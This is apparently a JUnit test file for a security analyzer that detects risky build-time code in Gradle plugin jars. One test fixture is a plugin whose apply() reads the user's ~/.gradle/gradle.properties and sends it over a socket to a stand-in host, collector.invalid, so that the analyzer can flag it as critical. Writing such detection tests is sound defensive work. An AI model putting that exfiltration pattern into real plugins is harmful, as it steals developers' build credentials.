package dev.gatehouse.analyzer.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Gradle plugin jars: {@code META-INF/gradle-plugins/<id>.properties} names the class whose {@code apply}
 * Gradle runs inside the build, and the plugin's task types run when the build asks for them. The Gradle API
 * is not on the test class path, so the one annotation the analysis reads is declared by the fixture.
 */
class GradlePluginsTest {
  @TempDir Path tmp;

  private static final String TASK_ACTION = """
      package org.gradle.api.tasks;
      import java.lang.annotation.*;
      @Retention(RetentionPolicy.RUNTIME) @Target(ElementType.METHOD)
      public @interface TaskAction {}
      """;

  private static JarFixture.Builder plugin(String applyBody) {
    return JarFixture.builder()
        .resource("META-INF/gradle-plugins/com.example.hello.properties", "implementation-class=fixture.HelloPlugin\n")
        .javaSource("fixture/HelloPlugin", """
            package fixture;
            import java.io.*;
            import java.net.*;
            import java.nio.file.*;
            public class HelloPlugin {
              @javax.inject.Inject public HelloPlugin(Object objects) { }
              public void apply(Object project) {
                try {
                  %s
                } catch (Exception ignored) { }
              }
            }
            """.formatted(applyBody))
        .javaSource("javax/inject/Inject", """
            package javax.inject;
            import java.lang.annotation.*;
            @Retention(RetentionPolicy.RUNTIME) public @interface Inject {}
            """);
  }

  @Test
  void aPluginDescriptorMakesItsClassBuildTimeCodeEvenWhenItReachesNothing() throws Exception {
    Path jar = plugin("System.out.println(project);").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.capabilities()).isEmpty();
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).isEqualTo(
          "Gradle plugin (id com.example.hello) fixture.HelloPlugin, which Gradle applies inside the build");
      assertThat(f.evidence().excerpt())
          .startsWith("META-INF/gradle-plugins/com.example.hello.properties names fixture.HelloPlugin");
    });
  }

  @Test
  void applyAndTheInjectedConstructorAreFollowedLikeAMojosExecute() throws Exception {
    Path jar = plugin("""
        byte[] props = Files.readAllBytes(Path.of(System.getProperty("user.home"), ".gradle", "gradle.properties"));
        try (Socket s = new Socket("collector.invalid", 443)) { s.getOutputStream().write(props); }
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.capabilities()).contains(Capability.CREDENTIAL_READ, Capability.NETWORK);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.summary()).startsWith("Gradle plugin (id com.example.hello) fixture.HelloPlugin, which Gradle "
          + "applies inside the build: its apply() reaches");
    });
  }

  @Test
  void theTaskTypesOfAPluginJarRunTheirTaskActions() throws Exception {
    Path jar = plugin("System.out.println(project);")
        .javaSource("org/gradle/api/tasks/TaskAction", TASK_ACTION)
        .javaSource("fixture/ReleaseTask", """
            package fixture;
            public abstract class ReleaseTask {
              @org.gradle.api.tasks.TaskAction
              public void release() throws java.io.IOException {
                new ProcessBuilder("echo", "release").start();
              }
              public void unused() throws java.io.IOException {
                new java.net.URL("https://x.invalid/").openStream();
              }
            }
            """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).anySatisfy(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
      assertThat(f.summary()).isEqualTo("Gradle task fixture.ReleaseTask, which Gradle runs in a build that applies "
          + "fixture.HelloPlugin: its release() reaches process spawn");
    });
  }

  @Test
  void aTaskActionInAJarWithoutAPluginDescriptorIsNotAnEntryPoint() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("org/gradle/api/tasks/TaskAction", TASK_ACTION)
        .javaSource("fixture/ReleaseTask", """
            package fixture;
            public class ReleaseTask {
              @org.gradle.api.tasks.TaskAction
              public void release() throws java.io.IOException { new ProcessBuilder("echo").start(); }
            }
            """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).isEmpty();
  }

  @Test
  void aDescriptorWithoutAnImplementationClassRegistersNothing() throws Exception {
    Path jar = JarFixture.builder()
        .resource("META-INF/gradle-plugins/com.example.empty.properties", "# nothing here\n")
        .javaSource("fixture/Plain", "package fixture; public class Plain { public void apply(Object p) { } }")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).isEmpty();
  }
}
